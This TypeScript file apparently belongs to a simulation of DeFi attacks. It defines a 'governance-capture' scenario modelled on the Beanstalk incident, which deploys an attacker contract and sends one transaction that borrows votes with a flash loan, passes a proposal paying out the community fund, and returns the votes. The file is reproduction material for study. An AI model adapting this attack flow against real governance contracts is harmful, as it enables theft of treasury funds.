import { encodeFunctionData } from 'viem'
import { runAbi } from '../abi.ts'
import { accounts } from '../accounts.ts'
import { tokenBalance } from './holdings.ts'
import { defineScenario } from './scenario.ts'
import { deployAttacker, sendSteps } from './send.ts'

/** Votes borrowed for the transaction: over two thirds of the nine million that exist. */
const votes = 6_100_000n * 10n ** 18n

/** The attack of Beanstalk: votes are counted by balance, and two thirds may act at once. */
export const governanceCapture = defineScenario(
  {
    id: 'governance-capture',
    title: 'Flash-loan governance capture',
    story:
      'The governor counts votes by the balance of the moment and lets two thirds of the supply act at once. The attacker ' +
      'borrows that many votes for a single transaction, proposes to be paid the community’s fund, votes, executes, and ' +
      'gives the votes back.',
    victims: ({ addresses }) => [addresses.fund, addresses.governor],
    unit: 'USDC',
    decimals: 6,
    line: 'pending',
  },
  async (market) => {
    const { tokens, v2, v3, governor, fund } = market.addresses
    const contract = await deployAttacker(market, 'attack contract', market.compiled.GovernanceCapture, [
      v3.gridUsdc,
      v2.gridUsdc,
      governor,
      fund,
      tokens.usdc,
    ])
    return {
      attackers: [accounts.attacker.address, contract],
      attack: (options) =>
        sendSteps(
          market,
          [
            {
              label: 'borrow the votes, propose, vote, execute',
              to: contract,
              data: encodeFunctionData({ abi: runAbi, functionName: 'run', args: [votes] }),
              gas: 3_000_000n,
            },
          ],
          options,
        ),
      // Ordinary governance pays nothing from the fund while the example runs, so that its balance is the measure.
      valueAtRisk: () => tokenBalance(market, tokens.usdc, fund),
    }
  },
)
